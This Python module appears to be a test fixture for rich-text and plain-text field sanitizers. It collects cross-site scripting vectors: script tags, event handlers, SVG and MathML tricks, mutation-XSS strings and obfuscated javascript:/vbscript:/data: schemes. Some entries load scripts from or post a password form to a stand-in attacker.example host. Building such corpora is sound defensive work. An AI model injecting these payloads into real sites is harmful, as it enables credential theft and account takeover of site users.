"""
Hostile markup for the rich-text and plain-text fields: the well-known kinds of cross-site scripting.

Each entry is written for this suite. URL schemes are also combined with the usual obfuscations
(case, entities, whitespace and control characters) to make the scheme-smuggling cases.
"""

SCRIPT_AND_HANDLERS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<body onload="alert(1)">',
    '<svg onload="alert(1)">',
    '<p onclick="alert(1)">click</p>',
    '<a href="#" onmouseover="alert(1)">hover</a>',
    '<div onfocus="alert(1)" tabindex="0" autofocus>focus</div>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)">',
    '<marquee onstart="alert(1)">moving</marquee>',
    '<select autofocus onfocus="alert(1)"></select>',
    '<textarea autofocus onfocus="alert(1)"></textarea>',
    '<keygen autofocus onfocus="alert(1)">',
    '<p style="x" onpointerenter="alert(1)">p</p>',
    '<blockquote onanimationstart="alert(1)">q</blockquote>',
    '<h2 onbeforecopy="alert(1)">heading</h2>',
]

DANGEROUS_ELEMENTS = [
    '<iframe src="https://attacker.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://attacker.example/x.swf"></object>',
    '<embed src="https://attacker.example/x.swf">',
    '<form action="https://attacker.example/steal"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
    '<base href="https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>@import 'https://attacker.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">old ie</div>',
    '<p style="behavior: url(x.htc)">behaviour</p>',
    '<applet code="x.class"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<portal src="https://attacker.example"></portal>',
    '<img srcset="javascript:alert(1) 1x">',
]

SVG_AND_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg><use href="data:image/svg+xml,&lt;svg id=x onload=alert(1)&gt;#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">CLICK</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

MUTATION_AND_BROKEN = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="java\tscript:alert(1)">tab</a>',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)//",
    '<p title="a"onclick="alert(1)">joined attributes</p>',
    '<a href="javascript&colon;alert(1)">named colon</a>',
    "<<script>alert(1)//<</script>",
    "<img/src=x/onerror=alert(1)>",
    '<a/href="javascript:alert(1)">slash</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div><!--</div><img src=x onerror=alert(1)>--></div>",
    '<table><td background="javascript:alert(1)">cell</td></table>',
    '<ol start="1" type="1" onclick="alert(1)"><li>item</li></ol>',
    '<figure onclick="alert(1)"><img src="x" data-file="1" onerror="alert(1)"><figcaption>c</figcaption></figure>',
    '<a href="https://example.org" target="_blank">new window, needs noopener</a>',
]

SCHEMES = ["javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]
OBFUSCATIONS = [
    lambda url: url,
    lambda url: url.upper(),
    lambda url: url[:4] + "\t" + url[4:],
    lambda url: " \n" + url,
    lambda url: url.replace(":", "&#58;", 1),
    lambda url: url.replace(":", "&#x3A;", 1),
    lambda url: "".join(f"&#{ord(c)};" for c in url.split(":")[0]) + ":" + url.split(":", 1)[1],
    lambda url: url[0] + "\x00" + url[1:],
    lambda url: url.replace("a", "&#x61", 1),
]


def scheme_vectors():
    """Every scheme, obfuscated every way, in a link and an image."""
    vectors = []
    for scheme in SCHEMES:
        for obfuscate in OBFUSCATIONS:
            url = obfuscate(scheme)
            vectors.append(f'<a href="{url}">link</a>')
            vectors.append(f'<img src="{url}" alt="x">')
    return vectors


def corpus():
    vectors = SCRIPT_AND_HANDLERS + DANGEROUS_ELEMENTS + SVG_AND_MATHML + MUTATION_AND_BROKEN + scheme_vectors()
    # Distinct, in a stable order.
    return list(dict.fromkeys(vectors))


PLAIN_TEXT_PAYLOADS = [
    '</script><script>alert("headline")</script>',
    '"><img src=x onerror=alert(1)>',
    "';alert(String.fromCharCode(88,83,83))//",
    "<!--",
    "]]><x>&amp;&lt;</x>",
    "\u2028\u2029</title><svg onload=alert(1)>",
]
